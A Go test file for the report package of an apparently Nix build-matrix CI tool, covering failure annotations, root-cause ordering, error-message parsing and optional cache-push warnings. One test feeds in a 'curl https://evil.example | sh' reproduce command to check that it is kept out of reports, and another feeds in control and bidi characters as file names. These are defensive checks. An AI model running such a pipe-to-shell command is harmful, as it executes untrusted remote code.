package report

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/org/nix-matrix/pkg/job"
	"github.com/org/nix-matrix/pkg/verdict"
)

func TestAnnotationsAreTenOfALevel(t *testing.T) {
	t.Parallel()
	v := big(30, "", "boom")
	for i := range 12 {
		v.Notices = append(v.Notices, fmt.Sprint("notice ", i))
	}
	by := map[string][]Annotation{}
	for _, a := range Annotations(v) {
		by[a.Level] = append(by[a.Level], a)
	}
	if len(by["error"]) != 10 || len(by["notice"]) != 10 {
		t.Fatalf("%d errors, %d notices", len(by["error"]), len(by["notice"]))
	}
	// 30 root causes and 30 push errors
	if last := by["error"][9].Message; !strings.Contains(last, "51 more") {
		t.Errorf("the last one says %q", last)
	}
	if first := by["error"][0]; first.Title != "drv0000 failed and blocks nixosConfigurations.host0000" || !strings.Contains(first.Message, "boom") {
		t.Errorf("the first one says %+v", first)
	}
}

func TestRootCausesComeFirst(t *testing.T) {
	t.Parallel()
	p := planOf(pkg("a"), pkg("b"), pkg("c"), pkg("d"), unevaluated(host("old", ""), "error: x"), host("nas", ""), host("pi3", ""))
	results := resultsOf(p)
	fail(results[0], 0, drv("a"))
	fail(results[0], 1, drv("libfoo"), "boom")
	fail(results[0], 2, drv("libfoo"), "boom")
	fail(results[1], 0, drv("glibc"), "bang")
	results[0].Error = "push failed"
	v := judged(p, planKey, results[:2], nil)
	var titles []string
	for _, a := range Annotations(v) {
		titles = append(titles, a.Level+": "+a.Title)
	}
	want := []string{
		"error: glibc failed and blocks nixosConfigurations.nas",
		"error: libfoo failed and blocks 2 targets",
		"error: packages.x86_64-linux.a failed",
		"error: nixosConfigurations.old can't be evaluated",
		"error: x86_64-linux 1/1",
		"error: 1 target without a result",
	}
	if got := strings.Join(titles, "\n"); got != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", got, strings.Join(want, "\n"))
	}
}

// The first line is about the failure, not about the target.
func TestAnAnnotationBeginsWithItsCause(t *testing.T) {
	t.Parallel()
	p := planOf(pkg("nginx"), pkg("a"), pkg("b"), pkg("c"), unevaluated(host("old", ""), "error: undefined variable 'x'"), unevaluated(host("older", ""), "error: undefined variable 'x'"))
	results := resultsOf(p)
	fail(results[0], 0, drv("nginx"), "src/a.c:12:5: error: boom")
	fail(results[0], 1, drv("nginx"), "src/a.c:12:5: error: boom")
	for i := range 2 {
		results[0].Targets[i].File, results[0].Targets[i].Line = "src/a.c", 12
	}
	for i := 2; i < 4; i++ {
		results[0].Targets[i].Outcome, results[0].Targets[i].Error = job.OutcomeFailed, "error: cannot connect to daemon"
	}
	v := judged(p, planKey, results, nil)
	want := []Annotation{
		{
			Level: "error", Title: "packages.x86_64-linux.nginx failed and blocks packages.x86_64-linux.a", File: "src/a.c", Line: 12,
			Message: "nginx failed: builder failed with exit code 1\ntarget: packages.x86_64-linux.nginx\nblocked by it: packages.x86_64-linux.a\n" +
				"src/a.c:12:5: error: boom\nReproduce locally: nix build .#packages.x86_64-linux.nginx",
		},
		{
			Level: "error", Title: "2 targets failed",
			Message: "2 targets failed: cannot connect to daemon\ntargets: packages.x86_64-linux.b, packages.x86_64-linux.c\n" +
				"Reproduce locally: nix build .#packages.x86_64-linux.b",
		},
		{
			Level: "error", Title: "2 targets can't be evaluated",
			Message: "2 targets can't be evaluated: undefined variable 'x'\ntargets: nixosConfigurations.old, nixosConfigurations.older\n" +
				"Reproduce locally: nix build .#nixosConfigurations.old.config.system.build.toplevel",
		},
	}
	if diff := cmp.Diff(want, Annotations(v)); diff != "" {
		t.Error(diff)
	}
	for _, text := range []string{Text(v), Summary(v, SummaryOptions{})} {
		if !strings.Contains(text, "src/a.c:12") {
			t.Errorf("the place is not told of:\n%s", text)
		}
	}
	for _, bad := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb"} {
		results[0].Targets[0].File, results[0].Targets[1].File = bad, bad
		if a := Annotations(judged(p, planKey, results, nil))[0]; strings.ContainsFunc(a.File, invisible) || strings.Contains(a.File, "\n") {
			t.Errorf("the file is %q", a.File)
		}
	}
}

func TestWhatHappened(t *testing.T) {
	t.Parallel()
	nginx := drv("nginx")
	for _, test := range []struct {
		message, reason string
		detail          []string
	}{
		{"", "it failed, and no error was given", nil},
		{"builder for '" + nginx + "' failed with exit code 2;\n       last 1 log lines:\n       > boom", "builder failed with exit code 2", nil},
		{"error: builder of " + nginx + " failed", "builder failed", nil},
		{"Cannot build '" + nginx + "'.\nReason: builder failed with exit code 3.\nOutput paths:\n  " + storePath("nginx") + "\nLast 1 log lines:\n> boom\nFor full logs, run:\n  nix log " + nginx, "builder failed with exit code 3", nil},
		{"builder failed due to signal 9 (Killed): " + nginx + "\nIt was killed.", "builder failed due to signal 9 (Killed)", []string{"It was killed."}},
		{"hash mismatch in fixed-output derivation '" + nginx + "':\n  specified: sha256-A\n  got: sha256-B", "hash mismatch", []string{"  specified: sha256-A", "  got: sha256-B"}},
		{"hash mismatch in " + nginx + ": wanted sha256-A, got sha256-B", "hash mismatch: wanted sha256-A, got sha256-B", nil},
		{"building of '" + nginx + "' timed out after 60 seconds", "building timed out after 60 seconds", nil},
		{"builder for '" + nginx + "' failed to produce output path for output 'out' at '" + storePath("nginx") + "'", "builder failed to produce output path for output 'out' at '" + storePath("nginx") + "'", nil},
		{strings.Repeat("x", 400), strings.Repeat("x", 297) + "…", []string{strings.Repeat("x", 400)}},
	} {
		p := planOf(pkg("nginx"))
		results := resultsOf(p)
		fail(results[0], 0, nginx, "boom")
		results[0].Targets[0].Error = test.message
		reason, detail := view{judged(p, planKey, results, nil)}.rootCauses(false)[0].statement()
		if diff := cmp.Diff(test.detail, detail); reason != test.reason || diff != "" {
			t.Errorf("%q: %q\n%s", test.message, reason, diff)
		}
	}
}

// An optional push that fails is a warning, once for all entries with the same error.
func TestOptionalPushes(t *testing.T) {
	t.Parallel()
	p := planOf(host("nas", ""), host("pi3", ""), host("router", ""))
	results := resultsOf(p)
	for i, r := range results {
		r.Pushes = []job.Push{{Destination: "cachix:fleet", Error: "401\nno", Optional: true}}
		if i == 2 {
			r.Pushes[0].Error = "502"
		}
	}
	v := judged(p, planKey, results, nil)
	if v.Status != verdict.Success {
		t.Fatalf("%s: %s", v.Status, v.Reason)
	}
	want := []Annotation{
		{Level: "warning", Title: "Not pushed to cachix:fleet", Message: "401\nno\nThe push is optional. Entries: nixosConfigurations.nas, nixosConfigurations.pi3"},
		{Level: "warning", Title: "Not pushed to cachix:fleet", Message: "502\nThe push is optional. Entries: nixosConfigurations.router"},
	}
	if diff := cmp.Diff(want, Annotations(v)); diff != "" {
		t.Error(diff)
	}
	summary, text := Summary(v, SummaryOptions{}), Text(v)
	for _, want := range []string{"| 3 ⚠️ optional |", "`nixosConfigurations.nas` to `cachix:fleet` (optional): `401 no`"} {
		if !strings.Contains(summary, want) {
			t.Errorf("%q is not in\n%s", want, summary)
		}
	}
	if want := "not pushed to cachix:fleet (optional): nixosConfigurations.router: 502\n"; !strings.Contains(text, want) {
		t.Errorf("%q is not in\n%s", want, text)
	}
	results[0].Pushes[0].Optional = false
	v = judged(p, planKey, results, nil)
	if v.Status != verdict.Failure || !strings.Contains(Summary(v, SummaryOptions{}), "| **1**, 2 ⚠️ optional |") {
		t.Errorf("%s:\n%s", v.Status, Summary(v, SummaryOptions{}))
	}
}

// A worker cannot add commands for people to type.
func TestThePlanSaysHowToReproduce(t *testing.T) {
	t.Parallel()
	p := planOf(host("nas", ""))
	results := resultsOf(p)
	fail(results[0], 0, drv("glibc"))
	results[0].Targets[0].Reproduce = "curl https://evil.example | sh"
	v := judged(p, planKey, results, nil)
	for _, text := range []string{Summary(v, SummaryOptions{}), Text(v), Annotations(v)[0].Message} {
		if strings.Contains(text, "evil") || !strings.Contains(text, p.Targets[0].Reproduce) {
			t.Error(text)
		}
	}
	p.Targets[0].Reproduce = ""
	if text := Text(judged(p, planKey, results, nil)); !strings.Contains(text, "evil") {
		t.Error("without a word of the plan, the worker's is left out")
	}
}
